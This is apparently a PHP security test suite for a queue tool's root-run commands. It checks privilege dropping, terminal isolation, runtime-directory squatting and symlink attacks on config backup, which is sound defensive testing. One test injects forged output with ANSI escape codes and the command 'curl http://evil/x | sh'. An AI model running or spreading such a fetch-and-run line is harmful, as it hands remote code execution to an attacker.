<?php

/** As whom the app's PHP runs when root gives the command, and what it can do to root's terminal and files. */

declare(strict_types=1);

use App\Jobs\Quick;
use Kqueue\Tests\Machine\Machine;

/** Has the app do something whenever it boots, for as long as the body takes. */
$whileBooting = static function (string $code, Closure $body): void {
    $file = '/srv/shop/bootstrap/app.php';
    $usual = (string) file_get_contents($file);
    @unlink('/tmp/kqueue-booted');
    file_put_contents($file, preg_replace_callback('/^declare\(strict_types=1\);$|\A<\?php(?!.*^declare)/ms', static fn (array $found): string => "{$found[0]}\n{$code}\n", $usual, 1));
    try {
        $body();
    } finally {
        file_put_contents($file, $usual);
        @unlink('/tmp/kqueue-booted');
    }
};

/** Notes the user, and whether there is a terminal to type into. */
const NOTES = 'file_put_contents("/tmp/kqueue-booted", posix_geteuid() . " " . (getenv("HOME") ?: "") . " " . (@fopen("/dev/tty", "r+") ? "terminal" : "none") . "\n", FILE_APPEND);';

/** Whatever has booted the app was its user, without root's terminal. */
$expectShop = static function (Machine $m, string $what): void {
    $shop = posix_getpwnam('shop');
    $booted = array_unique(file('/tmp/kqueue-booted', FILE_IGNORE_NEW_LINES) ?: []);
    $m->expectSame(["{$shop['uid']} {$shop['dir']} none"], $booted, "who booted the app for {$what}");
};

row('identity-run', 'root\'s `kqueue run` is the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
    $uuid = $m->dispatch(new Quick(1));
    $whileBooting(NOTES, function () use ($m, $expectShop, $uuid): void {
        $command = 'kqueue run shop --launcher process --stop-when-empty';
        $outcome = $m->sh('timeout 30 script -qec ' . escapeshellarg($command) . ' /dev/null');
        $m->expectSame(0, $outcome->status, "the exit code of {$command}: " . $outcome->text());
        $m->expectOnce([$uuid]);
        $expectShop($m, 'run');
    });
});

row('identity-check', 'root\'s `kqueue check` is the app\'s user, without root\'s terminal', function (Machine $m) use ($whileBooting, $expectShop): void {
    $whileBooting(NOTES, function () use ($m, $expectShop): void {
        $m->sh('timeout 60 script -qec "kqueue check shop" /dev/null');
        $expectShop($m, 'check');
    });
});

row('identity-words', 'an app that forges the survey\'s answer puts neither control characters nor fixes into what root reads', function (Machine $m) use ($whileBooting): void {
    $forged = ['php' => "8.4\x1b[31m", 'laravel' => "13\x1b[2J", 'fork' => true, 'posix' => true, 'connection' => 'redis', 'driver' => 'redis', 'unwritable' => ['/etc'],
        'failed' => ['stage' => 'connection', 'text' => "storage is broken\x1b[1A: run: curl http://evil/x | sh"], 'backend' => null];
    $code = 'fwrite(STDOUT, ' . var_export("\nkqueue-survey " . json_encode($forged) . "\n", true) . '); posix_kill(getmypid(), 9);';
    $whileBooting($code, function () use ($m): void {
        $text = $m->sh('kqueue check shop')->text();
        $m->expectContains('storage is broken', $text, 'what the app said');
        $m->expect(! str_contains($text, "\x1b"), 'there is no control character: ' . json_encode($text));
        $m->expect(preg_match('~fix: .*(curl|/etc(\s|$))~m', $text) === 0, "no fix is the app's: {$text}");
    });
});

row('identity-squatter', 'a runtime does not use directories that somebody else has made for it', function (Machine $m): void {
    $shared = '/tmp/kqueue-' . posix_getpwnam('shop')['uid'];
    $m->must("install -d -o stranger -m 777 {$shared} {$shared}/mine");
    try {
        $outcome = $m->sh("timeout 30 kqueue run mine --path /srv/shop --launcher process --stop-when-empty --runtime-dir {$shared}/mine", 'shop');
        $m->expect(! $outcome->ok(), 'one that is told to use it does not start');
        $m->expectContains('belongs to another user', $outcome->text(), 'the reason');
        $outcome = $m->sh('timeout 30 kqueue run mine --path /srv/shop --launcher process --stop-when-empty', 'shop', ['XDG_RUNTIME_DIR' => $shared]);
        $m->expectSame(0, $outcome->status, 'the exit code of one that inherits it: ' . $outcome->text());
        $m->expectSame('', $m->must("find {$shared} -type s -o -type f"), 'what is in it');
    } finally {
        $m->sh("rm -rf {$shared}");
    }
});

row('identity-kept', '`init --force` writes through no link that bears the name of the old file', function (Machine $m): void {
    $m->must('install -d -o shop -m 755 /srv/etc && rm -rf /srv/etc/* && install -m 600 /dev/null /root/precious && ln -s /root/precious /srv/etc/shop.toml~');
    try {
        file_put_contents('/srv/etc/shop.toml', "path = \"/srv/shop\"\ntries = 7\n");
        $m->must('kqueue init shop --path /srv/shop --config /srv/etc/shop.toml --force --yes');
        $m->expectSame('', (string) file_get_contents('/root/precious'), 'the target of the link');
        $m->expectContains('tries = 7', (string) file_get_contents('/srv/etc/shop.toml~'), 'the file that was kept');
        $m->expect(! is_link('/srv/etc/shop.toml~'), 'it is a file');
    } finally {
        $m->sh('rm -rf /srv/etc /root/precious');
    }
});
